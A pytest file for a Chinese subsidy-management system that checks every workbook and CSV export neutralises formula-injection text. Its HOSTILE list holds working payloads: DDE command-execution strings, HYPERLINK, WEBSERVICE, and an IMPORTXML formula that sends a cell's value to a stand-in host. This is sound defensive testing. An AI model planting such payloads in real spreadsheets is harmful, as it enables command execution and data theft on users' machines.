"""Formula cells (issue 14 §3): text that a spreadsheet could read as a formula (= + - @, their
full-width forms, a tab or a line break) is neutralised by one rule (``workflow.sheet_text``)
in every workbook and CSV Fuzhi writes: OWASP's single quote before it, and in a workbook a
string cell, never a formula. Hostile names registered through the agent API and a bulk list,
a hostile organisation and hostile comments reach every export, finance's bank file (CSV and
xlsx, its numbers text cells with their exact figures) and the agent's result file; read back
with openpyxl and csv, no cell is a formula and every such text begins with the quote."""

from __future__ import annotations

import csv
import io
import re
import zipfile
from datetime import date
from pathlib import Path

import pytest
from openpyxl import load_workbook

from store.imports import upload_import
from store.payouts import batch_pool
from store.people.register import OrganisationInput, register_organisation
from store.transitions import transition
from workflow.machines import CLAIM
from workflow.roles import Role
from workflow.sheet_text import looks_like_formula, neutral, neutral_row

from .api_support import api_client
from .builders import add_admin, id_number
from .builders_imports import PERSON_HEADER, distinct_ids
from .builders_posts import active_contract
from .page_support import sign_in

pytestmark = pytest.mark.usefixtures("on_28_november_2026")

ACCOUNT = "0217000000000000123"  # a leading zero the bank file must keep
HOSTILE = [
    '=HYPERLINK("http://x","y")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(1)",
    "\t=1",  # a tab before: the name is stripped to "=1"
    "\r=2",  # a carriage return before: stripped to "=2"
    "＝1+1",  # full-width: NFKC makes it a formula
    "＋cmd|' /C calc'!A0",
    "－2+3",
    "＠SUM(1)",
    '=DDE("cmd";"/C calc";"!A0")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+cmd|' /C notepad'!A0",
    "-cmd|' /C calc'!A0",
    '=1+2";=1+2',  # a quote and a separator: CSV quoting must hold
    '=IMPORTXML(CONCAT("http://x/?",A1),"//a")',
    '=WEBSERVICE("http://x")',
    "  =3+3",  # spaces before: stripped
    '=2+5+cmd|" /C calc"!A0',
    "-",
]
# Refused as names: a tab or a line break inside a name is an invisible (control) character.
REFUSED = {"卓玛\t=1": "validation.invisible_character", "卓玛\r\n=1": "validation.invisible_character"}


def stored(name: str) -> str:
    """A name as the API keeps it: surrounding spaces, tabs and line breaks stripped."""
    return name.strip()


def test_the_rule_quotes_every_hostile_text_and_nothing_else() -> None:
    for text in [*HOSTILE, "卓玛\t=1"[2:], "\n=1"]:
        assert looks_like_formula(text) and neutral(text) == "'" + text, text
    for text in ("卓玛", "德钦劳务经纪人扎西", "0217000000000000123", "650.00", "a=b", "'=x", "扎西-次仁"):
        assert neutral(text) == text
    assert neutral_row(["=1", 2, None, "x"]) == ["'=1", 2, None, "x"]


def test_every_writer_of_a_workbook_or_a_csv_goes_through_the_rule() -> None:
    """A module that makes a workbook, a cell or a CSV row imports ``workflow.sheet_text`` (the
    exports do so through ``printing.workbook``): a new writer that forgets it fails here."""
    root = Path(__file__).resolve().parent.parent
    writer = re.compile(r"\bWorkbook\(|csv\.writer\(|csv\.DictWriter\(|\.writerow\(|WriteOnlyCell\(")
    found = {}
    for path in sorted(root.glob("*/**/*.py")):
        rel = path.relative_to(root).as_posix()
        if rel.startswith(("tests/", "bench/", ".venv/", "migrations/")) or rel == "workflow/sheet_text.py":
            continue
        text = path.read_text(encoding="utf-8")
        if writer.search(text):
            found[rel] = re.search(r"from (workflow|\.+)\.?sheet_text import", text) is not None
    assert found and all(found.values()), {k: v for k, v in found.items() if not v}
    assert {"printing/workbook.py", "store/payouts/bank_files.py", "workflow/lists/result.py"} <= set(found)


# --- end to end ------------------------------------------------------------------------------


def xml_of(content: bytes) -> str:
    with zipfile.ZipFile(io.BytesIO(content)) as z:
        return "".join(z.read(n).decode("utf-8") for n in z.namelist() if n.endswith(".xml"))


def workbook_texts(content: bytes) -> list[str]:
    """Every text cell of every sheet, after checking that no cell anywhere is a formula and no
    text begins like one (the quote before it, else it fails)."""
    xml = xml_of(content)
    assert "<f>" not in xml and "<f " not in xml
    texts = []
    for ws in load_workbook(io.BytesIO(content)):
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    assert not looks_like_formula(cell.value), (ws.title, cell.coordinate, cell.value)
                    texts.append(cell.value)
    return texts


def csv_cells(content: bytes) -> list[list[str]]:
    rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))
    for row in rows:
        for value in row:
            assert not looks_like_formula(value), value
    return rows


def contains_every(texts: list[str], names: list[str]) -> None:
    joined = "\x00".join(texts)
    missing = [n for n in names if "'" + n not in joined]
    assert not missing, missing


@pytest.fixture
def api(db, tmp_path):
    with api_client(db, tmp_path / "files") as client:
        yield client


def register(api, name: str):  # type: ignore[no-untyped-def]
    body = {
        "name": name,
        "id_number": id_number(),
        "village_code": "533422101001",
        "target_groups": ["poverty_alleviated"],
        "bank_account": ACCOUNT,
    }
    return api.post("/api/v1/persons", json=body)


def list_csv(names: list[str]) -> bytes:
    out = io.StringIO(newline="")
    w = csv.writer(out, lineterminator="\r\n")
    w.writerow(
        [
            "姓名",
            "身份证号",
            "行政村代码",
            "帮扶对象类别",
            "补贴类型",
            "务工地点",
            "就业开始日期",
            "实际交通费",
            "银行账号",
        ]
    )
    for name in names:
        w.writerow(
            [
                name,
                id_number(),
                "533422101001",
                "脱贫人口",
                "一次性外出务工交通补助",
                "省外",
                "2026-03-01",
                "860",
                ACCOUNT,
            ]
        )
    w.writerow(
        [
            '=HYPERLINK("http://x","bad id")',
            "533422199001011234",
            "533422101001",
            "脱贫人口",
            "一次性外出务工交通补助",
            "省外",
            "2026-03-01",
            "860",
            ACCOUNT,
        ]
    )
    return out.getvalue().encode("utf-8")


def walk_to_approved(db, c, claim_id: int, comment: str) -> None:  # type: ignore[no-untyped-def]
    by_role = {Role.VILLAGE: c.verifier, Role.HR: c.hr}
    for step in CLAIM.path_to("hr_reviewed"):
        transition(db, "claim", claim_id, step.trigger, by_role[step.role], comment=comment)


def test_hostile_names_reach_every_export_the_bank_file_and_the_result_file_neutralised(db, api) -> None:
    c = api.county
    # Through the API: every hostile name is accepted (stripped), those with a control inside refused.
    persons = {}
    for name in HOSTILE:
        r = register(api, name)
        assert r.status_code == 201, (name, r.text)
        persons[stored(name)] = r.json()["id"]
    for name, code in REFUSED.items():
        r = register(api, name)
        assert 400 <= r.status_code < 500, r.text
        assert r.json()["code"] == code
    claims = []
    for name, pid in persons.items():
        body = {
            "subsidy_type": "transport_subsidy",
            "person_id": pid,
            "facts": {"destination": "out_of_province", "employment_start": "2026-03-01", "fare": "860"},
        }
        r = api.post("/api/v1/claims", json=body)
        assert r.status_code == 201, (name, r.text)
        claims.append(r.json()["id"])

    # Through a bulk list: the same names as new persons, and one refused row echoed back.
    listed = [stored(n) for n in HOSTILE]
    r = api.post(
        "/api/v1/lists", files={"file": ("清单.csv", list_csv(listed), "text/csv")}, data={"dry_run": "false"}
    )
    assert r.status_code == 201, r.text
    report = r.json()
    assert report["rows_accepted"] == len(listed), report
    result = api.get(report["result_url"])
    assert result.status_code == 200
    contains_every(workbook_texts(result.content), [*listed, '=HYPERLINK("http://x","bad id")'])
    assert api.get("/api/v1/lists/template.xlsx").status_code == 200
    workbook_texts(api.get("/api/v1/lists/template.xlsx").content)

    # The admin's import of persons: its result file and templates.
    admin = add_admin(db)
    people = io.StringIO(newline="")
    csv.writer(people, lineterminator="\r\n").writerows(
        [
            PERSON_HEADER,
            *(
                [n, number, "533422101001", "脱贫人口", "全劳力", "", ""]
                for n, number in zip(listed, distinct_ids(len(listed)), strict=True)
            ),
        ]
    )
    run = upload_import(db, admin, "persons", "=人员.csv", people.getvalue().encode(), dry_run=True)
    hr_or_admin = sign_in(db, "admin1")
    contains_every(
        workbook_texts(hr_or_admin.get(f"/imports/{run.run_id}/result.xlsx").content), [*listed, "=人员.csv"]
    )
    for kind in ("persons", "places"):
        workbook_texts(hr_or_admin.get(f"/imports/template/{kind}").content)

    # A hostile organisation in the register.
    register_organisation(db, admin, OrganisationInput(name='=HYPERLINK("http://x","单位")', kind="workshop"))

    names = sorted(persons)
    village = sign_in(db, "village1")
    contains_every(workbook_texts(village.get("/exports/inbox").content), names)
    comment = "=cmd|' /C calc'!A0"
    for claim_id in claims:
        walk_to_approved(db, c, claim_id, comment)
    hr = sign_in(db, "hr1")
    contains_every(workbook_texts(hr.get("/exports/search?q=%3D").content), [])
    for name, pid in persons.items():
        for kind in ("claims", "persons"):
            contains_every(
                workbook_texts(hr.get(f"/exports/search?person={pid}&kind={kind}").content), [name]
            )
    workbook_texts(hr.get("/exports/inbox").content)
    # A hostile name on a public-welfare post contract, in the contracts export.
    holder = stored(HOSTILE[0])
    active_contract(db, c, date(2026, 1, 1), date(2026, 12, 20), person_id=persons[holder])
    contains_every(workbook_texts(hr.get("/exports/contracts").content), [holder])
    contains_every(workbook_texts(village.get("/exports/contracts").content), [holder])
    workbook_texts(hr.get("/exports/dashboard").content)
    contains_every(
        workbook_texts(hr.get("/exports/organisations").content), ['=HYPERLINK("http://x","单位")']
    )

    batch = batch_pool.create_batch(db, c.finance, claims)
    finance = sign_in(db, "finance1")
    contains_every(workbook_texts(finance.get("/exports/payouts").content), [])
    contains_every(workbook_texts(finance.get(f"/exports/payouts/{batch.id}").content), names)

    # The bank file: names quoted, every number a text cell with its exact figure.
    xlsx = finance.get(f"/payouts/{batch.id}/bank-file/xlsx")
    assert xlsx.status_code == 200
    contains_every(workbook_texts(xlsx.content), names)
    sheet = load_workbook(io.BytesIO(xlsx.content)).active
    lines = list(sheet.iter_rows(min_row=2))
    assert len(lines) == len(claims)
    for seq, line in enumerate(lines, 1):
        assert all(cell.data_type == "s" and cell.number_format == "@" for cell in line)
        assert [line[0].value, line[2].value, line[3].value] == [str(seq), ACCOUNT, "860.00"]
        assert line[1].value == neutral(line[1].value.removeprefix("'"))
    assert {line[1].value for line in lines} == {"'" + n for n in names}
    text = finance.get(f"/payouts/{batch.id}/bank-file/csv")
    assert text.status_code == 200 and text.headers["content-type"].startswith("text/csv")
    rows = csv_cells(text.content)
    assert rows[0] == ["序号", "收款人", "收款账号", "金额", "附言"]
    assert {r[1] for r in rows[1:]} == {"'" + n for n in names}
    assert {(r[2], r[3]) for r in rows[1:]} == {(ACCOUNT, "860.00")}
    assert sorted(int(r[4]) for r in rows[1:]) == sorted(claims)
